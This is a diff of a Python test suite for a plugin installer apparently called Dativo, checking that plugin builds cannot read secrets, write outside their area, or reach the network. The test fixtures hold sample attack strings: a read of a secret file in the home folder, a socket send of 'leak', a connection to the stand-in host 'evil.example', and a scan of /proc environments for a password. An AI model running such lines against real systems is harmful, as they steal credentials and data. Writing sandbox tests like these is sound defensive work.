@@ -65,12 +65,12 @@ def attacks(tmp_path, port):
     import pwd
 
     home = pwd.getpwuid(os.getuid()).pw_dir
+    written = f"{home}/.dativo-test-written"
     return {
         "reads a home": (f"open({home + '/.dativo-test-secret'!r}).read()", "read", f"{home}/.dativo-test-secret"),
-        "writes elsewhere": (f"open({str(tmp_path / 'outside.txt')!r}, 'w').write('x')", "write", str(tmp_path)),
+        "writes elsewhere": (f"open({written!r}, 'w').write('x')", "write", written),
         "reaches a host": (
-            f"import socket; socket.create_connection(('127.0.0.1', {port}), 5).sendall(b'leak')", "reach",
-            f"127.0.0.1:{port}",
+            f"import socket; socket.create_connection(('127.0.0.1', {port}), 5).sendall(b'leak')", "reach", f"{port}"
         ),
         "reaches a name": (
             "import socket; socket.create_connection(('evil.example', 443), 5)", "reach", "evil.example"
@@ -126,11 +126,11 @@ def test_a_build_that_attacks_fails_and_the_install_says_why(shop, tmp_path, lis
                 asked = f"git+file://{folder}"
             error = json.loads(shop.dativo("add", asked, "--as", name, "--json").expect(3).stdout)
             assert error["code"] == "plugin.build_denied", error
-            assert f"the build tried to {verb} {what}" in error["message"]
+            assert f"the build tried to {verb}" in error["message"] and what in error["message"]
             assert SECRET not in json.dumps(error)
             nothing_is_left(shop)
         assert heard == []
-        assert not (tmp_path / "outside.txt").exists()
+        assert not bait.with_name(".dativo-test-written").exists()
     finally:
         bait.unlink()
 
@@ -144,28 +144,29 @@ def test_a_trusted_folder_is_built_as_it_is(shop, tmp_path):
 
 def test_a_build_never_holds_the_indexs_password(tmp_path, monkeypatch):
     """It is asked for by Dativo, not by the build: all that a build can read has no trace of it."""
-    look = (
-        "import os, pathlib; said = str(dict(os.environ)) + pathlib.Path('/proc/self/environ').read_text() + "
-        "''.join(p.read_text(errors='replace') for p in pathlib.Path('/proc').glob('[0-9]*/environ')); "
-        "assert 'hunter2' not in said, 'it is there'"
-    )
+    look = """
+    import glob
+    said = str(dict(os.environ))
+    for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
+        try:
+            said += open(path, errors='replace').read()
+        except PermissionError:
+            pass
+    assert 'hunter2' not in said, 'it is there'
+"""
     with Shelf(tmp_path / "shelf", ("anna", "hunter2")) as shelf:
         shelf.sdist(plugin(tmp_path / "p", "tap-src", attack=look), "tap-src")
         monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
         monkeypatch.setenv("SHELF_PASSWORD", "hunter2")
         workspace = Workspace(tmp_path / "project", tmp_path / "home")
-        text = f"index:\n  shelf: {{url: '{shelf.url}', username: anna, password: 'secret://env/SHELF_PASSWORD', default: true}}\n"
-        (workspace.folder / "dativo.yml").write_text(text)
-        said = shop_line(workspace, "SHELF_PASSWORD=hunter2 UV_CACHE_DIR=$PWD/uv dativo add tap-src --json")
+        index = {"url": shelf.url, "username": "anna", "password": "secret://env/SHELF_PASSWORD", "default": True}
+        (workspace.folder / "dativo.yml").write_text(json.dumps({"index": {"shelf": index}}))
+        said = workspace.shell("SHELF_PASSWORD=hunter2 UV_CACHE_DIR=$PWD/uv dativo add tap-src --json")
         said.expect()
         assert shelf.seen
         kept = [path for path in [*workspace.folder.rglob("*"), *workspace.home.rglob("*")] if path.is_file()]
         assert not [path for path in kept if b"hunter2" in path.read_bytes()]
-        wrong = shop_line(workspace, "SHELF_PASSWORD=wrong-one UV_CACHE_DIR=$PWD/uv2 dativo add tap-other --json")
+        wrong = workspace.shell("SHELF_PASSWORD=wrong-one UV_CACHE_DIR=$PWD/uv2 dativo add tap-other --json")
         error = json.loads(wrong.expect(2).stdout)
         assert error["code"] == "index.denied"
         assert "wrong-one" not in wrong.stdout + wrong.stderr
-
-
-def shop_line(workspace, line):
-    return workspace.shell(line)
